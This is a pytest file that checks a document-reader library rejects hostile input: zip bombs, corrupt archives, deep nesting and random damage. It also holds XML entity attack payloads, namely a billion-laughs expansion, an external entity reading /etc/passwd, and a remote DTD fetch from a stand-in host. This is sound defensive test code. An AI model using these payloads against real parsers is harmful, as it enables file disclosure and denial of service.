"""ragchunk.readers on hostile input: one clear RagchunkError each, never a traceback; linear work.

Zip bombs, corrupt and truncated archives, XML entity attacks, deep nesting, encrypted
Word files, JSON that is not a notebook, random damage to every fixture. Linear work is
shown by counting Python-level calls (``sys.setprofile``) at ``n`` and ``4n``, never by
timing.
"""

from __future__ import annotations

import io
import json
import random
import sys
import zipfile
import zlib
from pathlib import Path
from xml.parsers import expat

import pytest

from catalog import english, render
from test_hostile import calls_made
from ragchunk.errors import RagchunkError
from ragchunk.readers import ReadOptions, docx, epub, html, notebook, rst, safety
from ragchunk.readers.formats import read_document

DOCS = Path(__file__).resolve().parents[1] / "data" / "docs"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FIXTURES = ["guide.html", "guide.docx", "guide-lo.docx", "word-styles.docx", "styles-lo.docx", "guide.epub",
            "guide-epub2.epub", "analysis.ipynb", "analysis-v3.ipynb", "guide.rst", "guide.md"]


def load(name: str) -> bytes:
    return (DOCS / name).read_bytes()


def refused(call, code: str, name: str) -> RagchunkError:
    """The RagchunkError ``call()`` raises: on field "file", with ``code``, naming ``name`` and a fix."""
    with pytest.raises(RagchunkError) as caught:
        call()
    error = caught.value
    assert error.field == "file" and error.code == code, (error.code, error.message)
    assert error.message.startswith(name) and ": " in error.message, error.message
    assert error.params["name"] == name
    assert english(error) == error.message, "the page says it from web/i18n/en.json"
    return error


def make_docx(document: str | bytes, extra: dict[str, bytes | str] | None = None,
              compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", document)
        for entry, data in (extra or {}).items():
            archive.writestr(entry, data)
    return buffer.getvalue()


def body(paragraphs: str) -> str:
    return f'<w:document xmlns:w="{W_NS}"><w:body>{paragraphs}</w:body></w:document>'


# --- archives ---------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["guide.docx", "guide.epub"])
def test_truncated_and_corrupt_archives(name):
    data = load(name)
    reader = docx if name.endswith(".docx") else epub
    for damaged in (data[: len(data) // 2], data[:100], b"PK\x03\x04" + bytes(200), data[:-30]):
        refused(lambda: reader.read(damaged, name, ReadOptions()), "zip_corrupt", name)
        refused(lambda: read_document(damaged, name), "zip_corrupt", name)


@pytest.mark.parametrize("name", ["guide.docx", "guide.epub"])
def test_a_damaged_archive_without_its_extension_is_said_damaged_as_with_it(name):
    data = load(name)
    bare = name.rsplit(".", 1)[0]
    for damaged in (data[: len(data) // 2], data[:-30]):
        named = refused(lambda: read_document(damaged, name), "zip_corrupt", name)
        unnamed = refused(lambda: read_document(damaged, bare), "zip_corrupt", bare)
        assert unnamed.message == bare + named.message.removeprefix(name)
        assert unnamed.params == {**named.params, "name": bare}


def zipfile_says(data: bytes) -> str:
    """What zipfile (or zlib under it) itself says of a damaged archive: the words we must not show."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for info in archive.infolist():
                archive.read(info)
    except (zipfile.BadZipFile, zlib.error, EOFError, ValueError, OSError) as err:
        return str(err)
    raise AssertionError("the archive is not damaged")


def damaged_archives(data: bytes) -> dict[str, bytes]:
    """One archive damaged in each way zipfile has its own words for."""
    directory = data.find(b"PK\x01\x02")
    bad_directory = bytearray(data)
    bad_directory[directory + 3] = 0
    archive = zipfile.ZipFile(io.BytesIO(data))
    biggest = max(archive.infolist(), key=lambda info: info.compress_size)
    stream = biggest.header_offset + 30 + len(biggest.orig_filename) + len(biggest.extra)
    bad_stream = bytearray(data)
    bad_stream[stream : stream + 64] = b"\xff" * 64
    return {"not a zip": b"plain words, renamed", "half": data[: len(data) // 2], "no directory end": data[:-30],
            "bad directory": bytes(bad_directory), "bad stream": bytes(bad_stream)}


@pytest.mark.parametrize("name", ["guide.docx", "guide.epub"])
@pytest.mark.parametrize("damage", ["not a zip", "half", "no directory end", "bad directory", "bad stream"])
def test_a_damaged_archive_is_said_in_our_words(name, damage):
    damaged = damaged_archives(load(name))[damage]
    theirs = zipfile_says(damaged)
    error = refused(lambda: read_document(damaged, name), "zip_corrupt", name)
    assert theirs not in error.message and "\n" not in error.message, error.message
    kind = name.rsplit(".", 1)[1]
    assert error.message == (f"{name} is not a readable {kind.upper()} file ({error.params['detail']}): open it in the"
                             f" program that made it and save it again as .{kind}")
    biggest = max(zipfile.ZipFile(io.BytesIO(load(name))).infolist(), key=lambda info: info.compress_size)
    expected = {"not a zip": f"it is not a ZIP archive, which every {kind.upper()} file is",
                "bad stream": f"its part {biggest.filename} is damaged and cannot be unpacked"}
    assert error.params["detail"] == expected.get(damage, "its ZIP container is damaged or cut short")


def directory_records(data: bytes) -> list[int]:
    """Where each record of the archive's central directory starts, in its order."""
    at, records = zipfile.ZipFile(io.BytesIO(data)).start_dir, []
    while data[at : at + 4] == b"PK\x01\x02":
        records.append(at)
        at += 46 + sum(int.from_bytes(data[at + k : at + k + 2], "little") for k in (28, 30, 32))
    return records


def reasoned_archives(data: bytes) -> dict[str, tuple[bytes, set[str]]]:
    """``{reason: (an archive refused for it, the entries it may name)}`` for each ``zip_corrupt`` reason."""
    damaged = damaged_archives(data)
    infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
    last = directory_records(data)[-1] + 42  # the local header offset of the last directory record
    overlap, beyond = bytearray(data), bytearray(data)
    overlap[last : last + 4] = infos[-2].header_offset.to_bytes(4, "little")
    beyond[last : last + 4] = (len(data) + 1000).to_bytes(4, "little")
    biggest = max(infos, key=lambda info: info.compress_size)
    return {"empty": (b"", set()), "not_zip": (damaged["not a zip"], set()), "damaged": (damaged["half"], set()),
            "overlap": (bytes(overlap), {infos[-2].filename, infos[-1].filename}),
            "beyond_end": (bytes(beyond), set()), "part_damaged": (damaged["bad stream"], {biggest.filename})}


@pytest.mark.parametrize("name", ["guide.docx", "guide.epub"])
@pytest.mark.parametrize("reason", list(safety.ZIP_DAMAGE))
def test_a_damaged_archive_says_its_reason(name, reason):
    """The page says ``reason`` (and ``entry``) in its language; ``detail`` is the same in English."""
    damaged, entries = reasoned_archives(load(name))[reason]
    reader = docx if name.endswith(".docx") else epub
    error = refused(lambda: reader.read(damaged, name, ReadOptions()), "zip_corrupt", name)
    assert error.params["reason"] == reason
    assert error.params.get("entry") in (entries or {None})
    assert render(f"reason.zip_corrupt.{reason}", error.params) == error.params["detail"]


def test_a_zip_bomb_is_refused_from_its_directory():
    bomb = make_docx(body(""), {"word/styles.xml": b"\0" * (20 * 1024 * 1024)})  # ~20 KB inflating to 20 MB
    assert len(bomb) < 100_000
    error = refused(lambda: docx.read(bomb, "bomb.docx", ReadOptions()), "zip_bomb", "bomb.docx")
    assert error.params["entry"] == "word/styles.xml"


def test_a_zip_bomb_is_refused_while_inflating(monkeypatch):
    """Entries within the ratio that add up past the total: the running count stops them."""
    monkeypatch.setattr(safety, "MAX_TOTAL", 2 * 1024 * 1024)
    paragraphs = "".join(f"<w:p><w:r><w:t>paragraph {k} text {k * 7919 % 10007}</w:t></w:r></w:p>"
                         for k in range(40_000))
    data = make_docx(body(paragraphs))
    refused(lambda: docx.read(data, "big.docx", ReadOptions()), "zip_bomb", "big.docx")
    monkeypatch.setattr(safety, "MAX_TOTAL", 512 * 1024 * 1024)
    assert docx.read(data, "big.docx", ReadOptions()).text.count("paragraph") == 40_000


def test_too_many_entries(monkeypatch):
    monkeypatch.setattr(safety, "MAX_ENTRIES", 100)
    data = make_docx(body(""), {f"word/media/{k}.bin": b"x" for k in range(120)})
    error = refused(lambda: docx.read(data, "many.docx", ReadOptions()), "zip_too_many_entries", "many.docx")
    assert error.params["entries"] == 122


def test_overlapping_entries_are_refused():
    """The smallest zip bombs point many directory entries at one compressed stream."""
    data = bytearray(make_docx(body("<w:p><w:r><w:t>x</w:t></w:r></w:p>"), {"word/a.xml": "a" * 3000}))
    document = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/document.xml")
    records = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"]
    # The third directory record now points at the second entry's local header.
    data[records[2] + 42 : records[2] + 46] = document.header_offset.to_bytes(4, "little")
    refused(lambda: docx.read(bytes(data), "overlap.docx", ReadOptions()), "zip_corrupt", "overlap.docx")


def test_encrypted_zip_entries_and_other_compression_methods():
    plain = make_docx(body(""))
    flagged = bytearray(plain)
    records = [i for i in range(len(flagged)) if flagged[i : i + 4] == b"PK\x01\x02"]
    flagged[records[1] + 8] |= 1  # the general purpose "encrypted" bit in the directory
    refused(lambda: docx.read(bytes(flagged), "z.docx", ReadOptions()), "zip_encrypted", "z.docx")
    lzma = make_docx(body(""), compression=zipfile.ZIP_LZMA)
    refused(lambda: docx.read(lzma, "l.docx", ReadOptions()), "zip_method", "l.docx")


def test_password_protected_docx_made_by_msoffcrypto():
    data = load("guide-encrypted.docx")
    error = refused(lambda: read_document(data, "guide-encrypted.docx"), "docx_encrypted", "guide-encrypted.docx")
    assert "password" in error.message
    refused(lambda: read_document(data, "renamed.bin"), "docx_encrypted", "renamed.bin")


def test_old_binary_word_document():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le")
    refused(lambda: docx.read(ole, "old.docx", ReadOptions()), "doc_binary", "old.docx")


def test_a_zip_that_is_not_a_word_document_or_book():
    data = make_docx(body(""))
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("readme.txt", "hi")
    refused(lambda: docx.read(other.getvalue(), "x.docx", ReadOptions()), "docx_not_word", "x.docx")
    refused(lambda: epub.read(data, "x.epub", ReadOptions()), "epub_no_package", "x.epub")


# --- XML --------------------------------------------------------------------------------

BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{k} "{("&lol" + str(k - 1) + ";") * 10 if k > 1 else "&lol;" * 10}">'
                            for k in range(1, 10))
                  + f']><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>'
                  "</w:document>")
EXTERNAL = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
            f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>')
PARAMETER = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>'
             f'<w:document xmlns:w="{W_NS}"><w:body/></w:document>')


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL, PARAMETER], ids=["laughs", "external", "parameter"])
def test_xml_entity_declarations_are_refused(document):
    refused(lambda: docx.read(make_docx(document), "x.docx", ReadOptions()), "xml_entities", "x.docx")


def test_an_external_dtd_is_never_fetched(monkeypatch):
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("a reader opened a connection")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    document = ('<?xml version="1.0"?><!DOCTYPE w:document SYSTEM "http://192.0.2.1/word.dtd">'
                + body("<w:p><w:r><w:t>still read</w:t></w:r></w:p>")[0:])
    assert docx.read(make_docx(document), "d.docx", ReadOptions()).text == "still read\n"


def test_xml_that_is_not_well_formed_names_the_part_and_place():
    error = refused(lambda: docx.read(make_docx(body("<w:p><w:r>")), "bad.docx", ReadOptions()), "xml_invalid",
                    "bad.docx")
    assert error.params["part"] == "word/document.xml" and error.params["line"] == 1
    refused(lambda: docx.read(make_docx(body("&undefined;")), "u.docx", ReadOptions()), "xml_invalid", "u.docx")


def test_xml_that_is_not_well_formed_is_said_in_our_words():
    document = body("<w:p><w:r><w:t>text</w:t></w:r></w:p>") + "\n  stray words"
    parser = expat.ParserCreate()
    with pytest.raises(expat.ExpatError) as theirs:
        parser.Parse(document.encode(), True)
    error = refused(lambda: docx.read(make_docx(document), "bad.docx", ReadOptions()), "xml_invalid", "bad.docx")
    # "stray" starts the third column of the second line, as an editor counts.
    assert error.message == ("bad.docx has a part (word/document.xml) that is not well-formed XML (line 2, column 3):"
                             " save it again from the program that made it")
    assert error.params == {"name": "bad.docx", "part": "word/document.xml", "line": 2, "column": 3}
    assert expat.ErrorString(theirs.value.code) not in error.message


def test_deeply_nested_xml_needs_no_recursion():
    depth = 50_000
    nested = "<w:sdt><w:sdtContent>" * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + \
        "</w:sdtContent></w:sdt>" * depth
    # Stored, not deflated: so repetitive a part would be refused as a zip bomb (ratio above 200).
    assert docx.read(make_docx(body(nested), compression=zipfile.ZIP_STORED), "deep.docx",
                     ReadOptions()).text == "deep\n"
    tables = "<w:tbl><w:tr><w:tc>" * 5_000 + "<w:p><w:r><w:t>cell</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * 5_000
    assert docx.read(make_docx(body(tables), compression=zipfile.ZIP_STORED), "t.docx",
                     ReadOptions()).text == "cell\n"


# --- HTML -------------------------------------------------------------------------------


def test_deeply_nested_html_needs_no_recursion_and_its_output_stays_small():
    depth = 20_000  # twenty times what recursion through Python frames would survive
    for opener, closer in (("<div>", "</div>"), ("<ul><li>", "</li></ul>"), ("<blockquote>", "</blockquote>"),
                           ("<table><tr><td>", "</td></tr></table>"), ("<b>", ""), ("<nav>", "</nav>")):
        page = (opener * depth + "text" + closer * depth).encode()
        found = html.read(page, "deep.html", ReadOptions(keep_boilerplate=True))
        assert "text" in found.text
        assert len(found.text) < 100, (opener, len(found.text))


def test_unfinished_markup_ends_the_document_as_in_browsers():
    assert html.read(b"<p>kept</p><a href='never closed", "u.html", ReadOptions()).text == "kept\n"
    assert html.read(b"<p>kept</p><!-- never closed <p>gone", "u.html", ReadOptions()).text == "kept\n"
    assert html.read(b"<p>kept<script>var x = '<p>gone';", "u.html", ReadOptions()).text == "kept\n"
    assert html.read(b"<p>a < b and c<d</p>", "u.html", ReadOptions()).text == "a < b and c\n"


def test_binary_bytes_named_html_are_refused():
    refused(lambda: html.read(b"\x89PNG\r\n\x1a\n" + bytes(100), "logo.html", ReadOptions()), "not_text",
            "logo.html")


# --- notebooks --------------------------------------------------------------------------


@pytest.mark.parametrize("data, code", [
    (b'{"a": 1}', "not_a_notebook"),
    (b"[1, 2, 3]", "not_a_notebook"),
    (b'{"cells": [{"source": "x"}]}', "not_a_notebook"),
    (b'{"cells": [', "notebook_invalid"),
    (b"not json at all", "notebook_invalid"),
    (b"[" * 100_000 + b"]" * 100_000, "notebook_too_deep"),
    (b'{"cells": ' + b'{"a": ' * 5_000 + b"1" + b"}" * 5_001, "notebook_too_deep"),
])
def test_json_that_is_not_a_notebook(data, code):
    refused(lambda: notebook.read(data, "x.ipynb", ReadOptions()), code, "x.ipynb")


def test_brackets_inside_strings_do_not_count_as_nesting():
    nb = {"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", "source": "[" * 10_000, "metadata": {}}]}
    assert "[" * 10_000 in notebook.read(json.dumps(nb).encode(), "s.ipynb", ReadOptions()).text


def test_lone_surrogates_in_a_notebook_become_replacement_characters():
    data = b'{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "markdown", "source": "a\\ud800b"}]}'
    assert notebook.read(data, "s.ipynb", ReadOptions()).text == "a\ufffdb\n"


# --- PDF ----------------------------------------------------------------------------------


def test_a_pdf_without_the_pdf_reader_is_a_clear_error(monkeypatch):
    monkeypatch.setitem(sys.modules, "ragchunk.readers.pdf", None)
    error = refused(lambda: read_document(b"%PDF-1.7\n...", "paper.pdf"), "pdf_unsupported", "paper.pdf")
    assert "PDF" in error.message


def test_too_large():
    from ragchunk.settings import MAX_DOCUMENT_BYTES

    refused(lambda: read_document(b" " * (MAX_DOCUMENT_BYTES + 1), "huge.html"), "file_too_large", "huge.html")


# --- random damage ------------------------------------------------------------------------


@pytest.mark.parametrize("name", FIXTURES)
def test_damaged_fixtures_give_text_or_one_clear_error(name):
    data = load(name)
    rng = random.Random(name)
    for _ in range(60):
        damaged = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(len(damaged))
            action = rng.random()
            if action < 0.5:
                damaged[at] = rng.randrange(256)
            elif action < 0.8:
                del damaged[at : at + rng.randint(1, 64)]
            else:
                damaged[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
        try:
            found = read_document(bytes(damaged), name)
        except RagchunkError as error:
            assert error.field == "file" and error.code and error.message.startswith(name), error.message
        else:
            assert isinstance(found.text, str)
            found.text.encode("utf-8")  # no lone surrogate reaches the splitter


# --- linear work --------------------------------------------------------------------------


def _html(piece: str):
    return lambda n: html.read((piece * n).encode(), "p.html", ReadOptions())


def _rst(piece: str):
    return lambda n: rst.read((piece * n).encode(), "p.rst", ReadOptions())


def _docx(piece: str):
    return lambda n: docx.read(make_docx(body(piece * n)), "p.docx", ReadOptions())


def _nested(opener: str, closer: str, reader):
    return lambda n: reader(opener * n + "x" + closer * n)


SLOW_BY_DESIGN = {
    "html paragraphs": _html("<p>word &amp; <b>bold</b> text</p>\n"),
    "html unclosed items": _html("<li>item <p>para"),
    "html nested lists": _nested("<ul><li>", "", lambda s: html.read(s.encode(), "p.html", ReadOptions())),
    "html nested tables": _nested("<table><tr><td>", "", lambda s: html.read(s.encode(), "p.html", ReadOptions())),
    "html nested quotes": _nested("<blockquote>a", "</blockquote>",
                                  lambda s: html.read(s.encode(), "p.html", ReadOptions())),
    "html unclosed attribute quotes": _html("<a title='x>y' href=\"z\">t</a> "),
    "html end tags without start": _html("</div></span></p>"),
    "html boilerplate to drop": _html("<nav><p>menu</p></nav><p>text</p>"),
    "html comments and raw text": _html("<!-- c --><script>if (a<b) {}</script><style>p{}</style>t "),
    "html many headings": _html("<h2 id=a>Title</h2><p>x</p>"),
    "rst nested bullets": _nested("- a\n\n  ", "", lambda s: rst.read(s.encode(), "p.rst", ReadOptions())),
    "rst nested quotes": lambda n: rst.read("".join(" " * k + "q\n\n" for k in range(n)).encode(), "p.rst",
                                            ReadOptions()),
    "rst sections": _rst("Title\n=====\n\ntext\n\nSub\n---\n\n- a\n- b\n\n"),
    "rst directives": _rst(".. note:: a\n\n   b\n\n.. code:: py\n\n   x\n\n"),
    "rst grid tables": lambda n: rst.read(("+---+---+\n" + "| a | b |\n+---+---+\n" * n).encode(), "p.rst",
                                          ReadOptions()),
    "docx paragraphs": _docx("<w:p><w:pPr><w:pStyle w:val='x'/></w:pPr><w:r><w:t>word</w:t></w:r></w:p>"),
    "docx list items": _docx("<w:p><w:pPr><w:numPr><w:ilvl w:val='3'/><w:numId w:val='1'/></w:numPr></w:pPr>"
                             "<w:r><w:t>i</w:t></w:r></w:p>"),
    "docx nested fields": _docx("<w:r><w:fldChar w:fldCharType='begin'/></w:r>"),
    "notebook cells": lambda n: notebook.read(json.dumps({"nbformat": 4, "metadata": {}, "cells": [
        {"cell_type": "markdown", "source": "# h\n\n```\nx", "metadata": {}}] * n}).encode(), "n.ipynb",
        ReadOptions()),
}


@pytest.mark.parametrize("name", list(SLOW_BY_DESIGN))
def test_work_grows_linearly(name):
    make = SLOW_BY_DESIGN[name]
    small, large = calls_made(lambda: make(500)), calls_made(lambda: make(2000))
    assert large <= 4 * small * 1.3, (name, small, large, large / small)
